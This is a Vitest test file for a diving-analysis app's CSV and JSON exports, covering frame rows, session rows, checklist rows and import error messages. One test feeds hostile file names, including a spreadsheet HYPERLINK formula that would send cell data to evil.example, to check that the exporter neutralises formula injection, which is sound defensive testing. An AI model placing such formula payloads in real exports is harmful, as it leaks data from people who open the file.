import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { parseAnalysisRecord, serialiseAnalysis, AnalysisFileError, type AnalysisRecord } from '../../pipeline/analysis/record.ts';
import { MPII_JOINTS } from '../../pipeline/pose/skeleton.ts';
import { CHECKLIST_CSV_HEADER, FRAME_COLUMNS, SESSION_COLUMNS, checklistCsv, framesCsv, parseCsv, sessionCsv, toCsv } from './csv.ts';
import { analysisJson } from '../json/analysisJson.ts';
import { sampleRecord } from '../pdf/reportFixture.ts';
import { EXECUTION_ITEM_IDS } from '../../domain/index.ts';
import { executionChecklistOfRecord, TYPICAL_DEDUCTION } from '../../pipeline/analysis/execution.ts';

/** A 6-frame analysis with a straight, upright diver whose right knee bends to 90° in frame 3. */
function fixture(): AnalysisRecord {
  const frames = 6;
  const joints: number[] = [];
  for (let f = 0; f < frames; f++) {
    const at: Record<string, [number, number]> = {
      r_ankle: [90, 300], r_knee: [90, 250], r_hip: [90, 200], l_hip: [110, 200], l_knee: [110, 250], l_ankle: [110, 300],
      pelvis: [100, 200], thorax: [100, 140], upper_neck: [100, 125], head_top: [100, 100],
      r_wrist: [80, 200], r_elbow: [80, 170], r_shoulder: [85, 140], l_shoulder: [115, 140], l_elbow: [120, 170], l_wrist: [120, 200],
    };
    if (f === 3) at.r_ankle = [140, 250];
    for (const name of MPII_JOINTS) joints.push(...(at[name] as [number, number]), 0.9);
  }
  return {
    format: 'divejudge.analysis/1',
    id: 'a1',
    createdAt: '2026-11-22T10:00:00.000Z',
    updatedAt: '2026-11-22T10:05:00.000Z',
    clip: { fileName: 'dive, "final".mp4', bytes: 1000, durationSeconds: 0.24, fps: 25, frameCount: frames, width: 320, height: 320, codec: 'avc' },
    dive: { code: '407C', height: '10m', name: 'Inward 3½ Somersaults Tuck', dd: 3.2 },
    pack: { id: 'p', version: '1.0.0', name: 'Pose pack', key: 'k', trainedOn: { kind: 'simulated', name: 'sim' }, label: 'trained on simulated dives' },
    pose: { config: 'test', fps: 25, width: 320, height: 320, frameCount: frames, joints, boxes: Array(frames * 4).fill(null), scores: Array(frames).fill(0.9), detected: Array(frames).fill(1), repaired: Array(frames * 16).fill(0) },
    encoded: null,
    stages: { model: { takeOffEnd: 1, entryStart: 4 }, used: { takeOffEnd: 1, entryStart: 5 } },
    voting: { mode: 'auto', n: 10, chosen: [] },
    score: null,
    summary: null,
    voters: [],
    timings: null,
  };
}

describe('CSV', () => {
  it('quotes what needs quoting and reads back the same cells', () => {
    const text = toCsv(['a', 'b'], [['x,y', 'say "hi"'], ['line\nbreak', 1.23456789]]);
    expect(parseCsv(text)).toEqual([['a', 'b'], ['x,y', 'say "hi"'], ['line\nbreak', '1.2346']]);
  });

  it('writes one row per frame with joints, stage and angles', () => {
    const rows = parseCsv(framesCsv(fixture()));
    expect(rows[0]).toEqual(FRAME_COLUMNS);
    expect(rows).toHaveLength(7);
    const col = (name: string) => FRAME_COLUMNS.indexOf(name);
    expect(rows.slice(1).map((r) => r[col('stage')])).toEqual(['take-off', 'take-off', 'flight', 'flight', 'flight', 'entry']);
    expect(Number(rows[1]?.[col('r_knee_y')])).toBe(250);
    expect(Number(rows[1]?.[col('rightKnee_deg')])).toBeCloseTo(180, 3);
    expect(Number(rows[4]?.[col('rightKnee_deg')])).toBeCloseTo(90, 3);
    expect(Number(rows[2]?.[col('time_s')])).toBeCloseTo(0.04, 6);
  });

  it('writes one row per analysis for a session', () => {
    const second = { ...fixture(), id: 'a2' };
    const rows = parseCsv(sessionCsv([fixture(), second]));
    expect(rows[0]).toEqual(SESSION_COLUMNS);
    expect(rows.map((r) => r[0])).toEqual(['analysis_id', 'a1', 'a2']);
    expect(rows[1]?.[SESSION_COLUMNS.indexOf('clip')]).toBe('dive, "final".mp4');
    expect(rows[1]?.[SESSION_COLUMNS.indexOf('stages_edited')]).toBe('yes');
    expect(rows[1]?.[SESSION_COLUMNS.indexOf('trained_on')]).toBe('simulated dives');
  });
});

describe('CSV a spreadsheet reads safely', () => {
  it('neutralises cells a spreadsheet would run as formulas; a real CSV parser reads the text back', () => {
    const hostile = ['=HYPERLINK("http://evil.example/?"&A2,"Click")', '+1+2', '-3+4', '@SUM(A1)', '\tx', '\rx'];
    const records = hostile.map((fileName, i) => ({ ...fixture(), id: `h${i}`, clip: { ...fixture().clip, fileName } }));
    const rows = parse(sessionCsv(records), { relax_column_count: false }) as string[][];
    const clips = rows.slice(1).map((r) => r[SESSION_COLUMNS.indexOf('clip')]);
    expect(clips).toEqual(hostile.map((name) => `'${name}`));
    for (const c of clips) expect(c).not.toMatch(/^[=+\-@\t\r]/);
    // Numbers stay numbers, negative ones included.
    expect(toCsv(['n'], [[-3.25]])).toBe('n\r\n-3.25\r\n');
  });

  it('what the app writes is read back cell for cell by csv-parse', () => {
    const text = framesCsv(fixture());
    expect(parse(text)).toEqual(parseCsv(text));
    const session = sessionCsv([fixture()]);
    expect(parse(session)).toEqual(parseCsv(session));
  });
});

describe('analysis JSON', () => {
  it('round-trips an analysis unchanged', () => {
    const record = fixture();
    expect(parseAnalysisRecord(serialiseAnalysis(record))).toEqual(record);
  });

  it('names what is wrong with a file that is not a whole analysis', () => {
    expect(() => parseAnalysisRecord('{nope', 'x.json')).toThrow(/x\.json is not JSON/);
    expect(() => parseAnalysisRecord('{"a":1}', 'x.json')).toThrow(/not a DiveJudge analysis/);
    expect(() => parseAnalysisRecord(JSON.stringify({ ...fixture(), format: 'divejudge.analysis/9' }), 'x.json')).toThrow(/newer DiveJudge/);
    const damaged = fixture() as unknown as { pose: { joints: number[] }; stages: { used: { entryStart: number } } };
    damaged.pose.joints = damaged.pose.joints.slice(3);
    damaged.stages.used.entryStart = 0;
    let message = '';
    try {
      parseAnalysisRecord(JSON.stringify(damaged), 'x.json');
    } catch (error) {
      expect(error).toBeInstanceOf(AnalysisFileError);
      message = (error as Error).message;
    }
    expect(message).toMatch(/pose\.joints: has 285 values, expected 288/);
    expect(message).toMatch(/stages\.used: take-off must end before entry starts/);
  });

  it('keeps the scene track a scene-track pack needs to rescore without the clip, and checks its length', () => {
    const T = 4;
    const encoded = {
      frameIndices: [0, 2, 3, 5], boundaries: [1, 2] as [number, number], transitionProbs: Array(T * 2).fill(0.25),
      poses: Array(T * 48).fill(0), splash: Array(T).fill(0), sceneTrack: Array.from({ length: T * 5 }, (_, i) => i / 10), splashMeasured: null,
    };
    const record = { ...fixture(), encoded };
    expect(parseAnalysisRecord(serialiseAnalysis(record)).encoded?.sceneTrack).toEqual(encoded.sceneTrack);
    const short = { ...record, encoded: { ...encoded, sceneTrack: encoded.sceneTrack.slice(1) } };
    expect(() => parseAnalysisRecord(JSON.stringify(short), 'x.json')).toThrow(/encoded\.sceneTrack: has 19 values, expected 20/);
  });
});

describe('execution checklist exports', () => {
  const record = sampleRecord({ withPose: true });

  it('writes one CSV row per checklist item and a closing award row, read back by csv-parse', () => {
    const rows = parse(checklistCsv(record), { columns: true }) as Array<Record<string, string>>;
    const byItem = new Map(rows.map((r) => [r.item, r]));
    expect(rows[0] && Object.keys(rows[0])).toEqual([...CHECKLIST_CSV_HEADER]);
    for (const id of EXECUTION_ITEM_IDS) expect(byItem.has(id), id).toBe(true);
    const entry = byItem.get('entry-angle');
    expect(Number(entry?.value)).toBeCloseTo(20, 0);
    expect(entry?.unit).toBe('°');
    expect(Number(entry?.deduction)).toBeGreaterThan(0);
    expect(entry?.frames).toMatch(/^\d+$/);
    expect(entry?.assumed).toBe(entry?.reliable === 'yes' ? '' : String(TYPICAL_DEDUCTION['entry-angle']));
    // An item that would count but is not read carries the typical deduction the award takes (this record has no take-off geometry).
    const board = byItem.get('board-distance');
    expect(board?.value).toBe('');
    expect(Number(board?.assumed)).toBe(TYPICAL_DEDUCTION['board-distance']);
    expect(byItem.get('splash')?.assumed).toBe('');
    const award = byItem.get('award-from-faults');
    expect(award?.note).toMatch(/typical deductions of \d+ item/);
    expect(Number(award?.value)).toBeGreaterThanOrEqual(0);
    expect(Number(award?.value)).toBeLessThanOrEqual(10);
  });

  it('refuses a checklist CSV for an analysis without poses, saying why', () => {
    expect(() => checklistCsv(sampleRecord())).toThrow(/no checklist yet/);
  });

  it('carries the checklist in the JSON export, which still imports as the same analysis', () => {
    const text = analysisJson(record);
    const json = JSON.parse(text) as { executionFaults: Array<{ id: string; value: number | null; frames: number[]; deduction: number | null; reliable: boolean }>; awardFromFaults: number };
    expect(json.executionFaults.map((f) => f.id)).toEqual([...EXECUTION_ITEM_IDS]);
    expect(json.executionFaults.find((f) => f.id === 'entry-angle')?.value).toBeCloseTo(20, 0);
    expect(json.awardFromFaults).toBe(executionChecklistOfRecord(record)?.award);
    expect(parseAnalysisRecord(text)).toEqual(parseAnalysisRecord(serialiseAnalysis(record)));
  });
});
